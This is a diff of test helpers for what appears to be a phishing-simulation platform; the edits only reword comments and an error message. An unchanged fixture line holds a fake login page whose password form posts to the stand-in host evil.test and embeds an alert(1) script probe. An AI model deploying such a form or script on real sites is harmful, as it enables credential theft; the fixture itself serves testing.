@@ -11,7 +11,7 @@ const EMAIL_HTML = '<html><body><p>Здравствуйте, {{first_name}}</p><
 const PAGE =
   '<html><head><title>x</title></head><body><form action="http://evil.test"><input name="password" type="password"><button>Go</button></form><script>alert(1)</script></body></html>';
 
-/** A template of the organisation with one email and one page; gives its id. */
+/** Creates a template of the organisation with one email and one page. Returns its id. */
 export async function makeTemplate(
   server: TestServer,
   { people: { operator } }: TestOrganization,
@@ -58,7 +58,7 @@ export async function makeTemplate(
 
 const PEOPLE_A_STATEMENT = 10_000;
 
-/** More people of the organisation, as many as asked, straight into the database. */
+/** Adds this many people to the organisation, directly in the database. */
 export async function addPeople(
   server: TestServer,
   { id, domain, department_id }: TestOrganization,
@@ -94,13 +94,13 @@ export async function launch(
   return body;
 }
 
-/** Waits for what will come, and says what was there when it did not. */
+/** Waits for a state, and fails with the last state seen when it does not come about. */
 export async function until<T>(look: () => Promise<T> | T, isThere: (seen: T) => boolean, seconds = 20): Promise<T> {
   const end = Date.now() + seconds * 1000;
   for (;;) {
     const seen = await look();
     if (isThere(seen)) return seen;
-    if (Date.now() > end) throw new Error(`Waited ${seconds} s in vain; last seen: ${JSON.stringify(seen)}`);
+    if (Date.now() > end) throw new Error(`Waited ${seconds} s without success; last seen: ${JSON.stringify(seen)}`);
     await new Promise((resolve) => setTimeout(resolve, 50));
   }
 }
@@ -118,7 +118,7 @@ export function deliveriesOf(server: TestServer, campaign_id: string): Promise<D
   );
 }
 
-/** As if the emails had left a minute ago: people do not click within ten seconds. */
+/** Dates the emails back by a minute, because people do not click within ten seconds. */
 export async function letTimePass(server: TestServer, campaign_id: string): Promise<void> {
   await asSystem(server.services.database, (tx) =>
     tx
@@ -140,7 +140,7 @@ export type HitOptions = {
   payload?: string;
 };
 
-/** A request to a phishing domain as someone's browser, or something else, sends it. */
+/** Sends a request to a phishing domain as a person's browser or another client sends it. */
 export function hit(
   server: TestServer,
   path: string,
